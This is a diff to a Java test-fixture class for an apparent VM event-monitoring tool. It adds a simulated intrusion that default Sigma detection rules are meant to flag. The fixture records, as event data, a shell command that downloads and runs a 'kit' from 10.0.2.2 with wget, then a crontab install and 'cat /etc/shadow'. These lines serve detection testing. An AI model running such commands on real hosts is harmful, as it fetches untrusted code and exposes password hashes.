@@ -1,5 +1,9 @@
 package io.vmiscope.web;
 
+import io.vmiscope.detect.BatchDetection;
+import io.vmiscope.detect.sigma.RuleLoader;
+import io.vmiscope.detect.sigma.RuleSet;
+import io.vmiscope.detect.sigma.SigmaDetector;
 import io.vmiscope.events.Event;
 import io.vmiscope.events.ExecEvent;
 import io.vmiscope.events.ExitEvent;
@@ -9,17 +13,19 @@ import io.vmiscope.events.NetworkEvent;
 import io.vmiscope.events.ProcessRef;
 import io.vmiscope.events.SyscallEvent;
 import io.vmiscope.store.DuckDbEventStore;
+import io.vmiscope.store.EventFilter;
 import io.vmiscope.store.Importer;
 import io.vmiscope.store.StoreOptions;
 import io.vmiscope.store.imports.ImportFormat;
 
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Set;
 import java.util.function.Consumer;
 
 /**
  * Stores for the web tests, written through the real store: a Linux VM whose processes include hostile names
- * (HTML and control characters), a DRAKVUF (Windows) log imported from the importer's own fixture, and, for
+ * (HTML and control characters) and an intrusion that the default Sigma rules detect, a DRAKVUF (Windows) log imported from the importer's own fixture, and, for
  * the performance test, a VM with thousands of processes and a million events.
  */
 final class TestStores {
@@ -35,13 +41,21 @@ final class TestStores {
     private TestStores() {
     }
 
-    /** The Linux lab VM and the imported DRAKVUF log in one new store at {@code file}. */
+    /**
+     * The Linux lab VM (with an intrusion) and the imported DRAKVUF log in one new store at {@code file}, with the
+     * alerts of the default Sigma rules over both stored as {@code vmiscope detect} stores them.
+     */
     static DuckDbEventStore lab(Path file) {
         DuckDbEventStore store = DuckDbEventStore.open(file, StoreOptions.defaults());
         linuxLab(store::accept);
+        intrusion(store::accept);
         store.flush();
         new Importer(store, Importer.DEFAULT_BATCH_SIZE, new Importer.Listener() { })
                 .run(ImportFormat.DRAKVUF.reader(), List.of(DRAKVUF_LOG), WINDOWS);
+        RuleSet rules = RuleLoader.load(List.of(), true, Set.of());
+        for (String vm : List.of(LINUX, WINDOWS)) {
+            BatchDetection.run(store, store, EventFilter.ALL.withVm(vm), new SigmaDetector(rules), alert -> { });
+        }
         return store;
     }
 
@@ -81,6 +95,43 @@ final class TestStores {
         sink.accept(new ExecEvent(t += ms(10), LINUX, "procevents", control, "/tmp/" + CONTROL_NAME,
                 List.of(CONTROL_NAME), true));
         sink.accept(new ExitEvent(t += ms(10), LINUX, "procevents", control, 1, 0, false));
+    }
+
+    /** When the intrusion of {@link #intrusion} starts: after everything of {@link #linuxLab}. */
+    static final long INTRUSION = START + 5_000_000_000L;
+
+    /**
+     * An intrusion through httpd (120) of {@link #linuxLab}: its CGI starts a shell (150) that downloads a kit into
+     * /tmp with wget (151) and runs it (152); the kit installs a crontab (153) and reads /etc/shadow with cat (154).
+     */
+    static void intrusion(Consumer<Event> sink) {
+        ProcessRef httpd = new ProcessRef(120, 120, 100, 33, "httpd");
+        ProcessRef sh = new ProcessRef(150, 150, 120, 33, "sh");
+        ProcessRef wget = new ProcessRef(151, 151, 150, 33, "wget");
+        ProcessRef kit = new ProcessRef(152, 152, 150, 33, "kit");
+        ProcessRef crontab = new ProcessRef(153, 153, 152, 33, "crontab");
+        ProcessRef cat = new ProcessRef(154, 154, 152, 33, "cat");
+        long t = INTRUSION;
+        sink.accept(new ForkEvent(t, LINUX, "procevents", httpd, 150, 150, false));
+        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", sh, "/bin/sh",
+                List.of("sh", "-c", "wget -O /tmp/kit http://10.0.2.2/kit; chmod +x /tmp/kit; /tmp/kit"), true));
+        sink.accept(new ForkEvent(t += ms(5), LINUX, "procevents", sh, 151, 151, false));
+        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", wget, "/usr/bin/wget",
+                List.of("wget", "-O", "/tmp/kit", "http://10.0.2.2/kit"), true));
+        sink.accept(new NetworkEvent(t += ms(20), LINUX, "network", wget, "connect", "10.0.2.2:80", 3, "connect"));
+        sink.accept(new FileEvent(t += ms(20), LINUX, "files", wget, "open", "/tmp/kit", null,
+                "O_WRONLY|O_CREAT|O_TRUNC", "openat"));
+        sink.accept(new ExitEvent(t += ms(200), LINUX, "procevents", wget, 0, 0, false));
+        sink.accept(new ForkEvent(t += ms(10), LINUX, "procevents", sh, 152, 152, false));
+        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", kit, "/tmp/kit", List.of("/tmp/kit"), true));
+        sink.accept(new ForkEvent(t += ms(300), LINUX, "procevents", kit, 153, 153, false));
+        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", crontab, "/usr/bin/crontab",
+                List.of("crontab", "/tmp/kit.cron"), true));
+        sink.accept(new ExitEvent(t += ms(50), LINUX, "procevents", crontab, 0, 0, false));
+        sink.accept(new ForkEvent(t += ms(400), LINUX, "procevents", kit, 154, 154, false));
+        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", cat, "/bin/cat", List.of("cat", "/etc/shadow"), true));
+        sink.accept(new FileEvent(t += ms(5), LINUX, "files", cat, "open", "/etc/shadow", null, "O_RDONLY", "openat"));
+        sink.accept(new ExitEvent(t += ms(5), LINUX, "procevents", cat, 0, 0, false));
     }
 
     /**
